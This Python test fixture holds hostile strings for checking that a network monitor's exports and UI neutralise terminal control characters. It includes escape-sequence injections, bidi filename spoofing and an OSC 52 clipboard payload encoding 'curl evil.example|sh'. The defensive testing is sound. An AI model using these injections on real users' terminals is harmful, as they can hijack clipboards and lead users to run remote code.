"""A corpus of hostile strings an attacker can put into traffic that Slips then stores.

Shared by the export tests and the UI tests: every one of them must reach neither a terminal
nor the text export as a control byte, and borders must stay aligned around the wide ones.
"""

from __future__ import annotations

import re

ESC = "\x1b"
CSI_CLEAR = "\x1b[2J\x1b[H"                              # clear the screen, cursor home
CSI_COLOUR = "evil\x1b[31mred\x1b[0m.com"               # SGR colour inside a domain
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\x07"     # replace the clipboard ("curl evil.example|sh")
OSC52_ST = "\x1b]52;c;ZWNobyBwd25lZAo=\x1b\\"            # the same, ended by ST instead of BEL
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # a hyperlink
OSC_TITLE = "\x1b]0;pwned title\x07"                     # set the window title
C1_CSI = "x\x9b31mC1\x9b0m"                              # 8-bit CSI (C1 control)
C1_OSC = "\x9d0;title\x9c"                               # 8-bit OSC ... ST
BEL = "ring\x07\x07"
DEVICE_QUERY = "\x1b[c\x1b[6n\x1bZ"                       # terminal queries: DA, DSR, DECID
BIDI_RLO = "invoice\u202efdp.exe"                        # right-to-left override
BIDI_ISOLATE = "a\u2066b\u2067c\u2068d\u2069e"          # bidi isolates
ZERO_WIDTH = "zero\u200bwidth\u200djoiner\ufe0f"         # ZWSP, ZWJ, VS16
WIDE_CJK = "主机名称-服务器"                               # wide (2 cells each)
EMOJI_ZWJ = "👩\u200d💻 host 👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈"  # emoji ZWJ sequences
COMBINING = "e\u0301a\u0300o\u0302"                      # combining marks
NUL_AND_FRIENDS = "a\x00b\x08c\x0bd\x0ce\x7ff"
NEWLINES = "line1\nline2\rline3\r\n"
LONG = "A" * 5000 + "\x1b[2J"

CORPUS: dict[str, str] = {
    "csi_clear": CSI_CLEAR, "csi_colour": CSI_COLOUR, "osc52": OSC52, "osc52_st": OSC52_ST,
    "osc8": OSC8, "osc_title": OSC_TITLE, "c1_csi": C1_CSI, "c1_osc": C1_OSC, "bel": BEL,
    "device_query": DEVICE_QUERY, "bidi_rlo": BIDI_RLO, "bidi_isolate": BIDI_ISOLATE,
    "zero_width": ZERO_WIDTH, "wide_cjk": WIDE_CJK, "emoji_zwj": EMOJI_ZWJ, "combining": COMBINING,
    "nul_and_friends": NUL_AND_FRIENDS, "newlines": NEWLINES, "long": LONG,
}
ALL = "".join(CORPUS.values())

# What may never reach a terminal: C0 controls except newline, DEL, C1 controls, bidi controls.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def control_bytes(text: str) -> list[str]:
    """The control characters in ``text`` (empty when it is safe to print)."""
    return CONTROL.findall(text)
